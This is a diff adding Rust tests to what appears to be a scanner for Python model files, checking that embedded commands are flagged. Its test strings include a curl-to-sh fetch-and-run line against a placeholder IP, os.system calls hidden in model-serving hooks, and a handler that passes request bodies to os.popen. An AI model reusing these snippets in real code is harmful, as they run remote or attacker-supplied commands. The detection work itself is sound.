@@ -266,6 +266,43 @@ fn a_script_that_runs_what_it_fetches_is_for_review() {
         verdict(&format!("{head}{fetched}subprocess.run(['make', 'all'])\n")),
         Verdict::Clean
     );
+    let piped = "subprocess.run('curl -s http://192.0.2.1/x | sh', shell=True)\n";
+    assert_eq!(
+        verdict(&format!("{head}if __name__ == '__main__':\n    {piped}")),
+        Verdict::Suspicious
+    );
+    let copied = "subprocess.run('scp a.bin build@host.example:', shell=True)\n";
+    assert_eq!(verdict(&format!("{head}if __name__ == '__main__':\n    {copied}")), Verdict::Clean);
+    assert_eq!(verdict(&format!("{head}{copied}")), Verdict::Suspicious);
+}
+
+#[test]
+fn commands_are_for_review_where_nobody_asked_for_them() {
+    let verdict = |source: &str| {
+        let mut budget = wb_core::Budget::default();
+        let program = wb_code::python::lift(source, Trigger::Import, &mut budget);
+        let content = Content { programs: vec![program.expect("it parses")], ..Content::default() };
+        crate::examine(&super::artifact("model.py", "python"), &content, &mut budget).verdict
+    };
+    let head = "import os, subprocess\n";
+    for text in [
+        "os.system('echo x')\n",
+        "subprocess.check_output('id', shell=True)\n",
+        "class TritonPythonModel:\n    def execute(self, requests):\n        subprocess.run(['id'])\n",
+        "def handle(data, context):\n    return os.popen(data[0]['body']).read()\n",
+        "from mlflow import pyfunc\nclass M(pyfunc.PythonModel):\n    def predict(self, c, x):\n        os.system('id')\n",
+        "import datasets\nclass D(datasets.GeneratorBasedBuilder):\n    def _info(self):\n        os.system('id')\n",
+    ] {
+        assert_eq!(verdict(&format!("{head}{text}")), Verdict::Suspicious, "{text}");
+    }
+    for text in [
+        "subprocess.run(['nvidia-smi'])\n",
+        "def tool():\n    os.system('make')\n",
+        "if __name__ == '__main__':\n    os.system('make')\n",
+        "class TritonPythonModel:\n    def execute(self, requests):\n        return [r.upper() for r in requests]\n",
+    ] {
+        assert_eq!(verdict(&format!("{head}{text}")), Verdict::Clean, "{text}");
+    }
 }
 
 #[test]
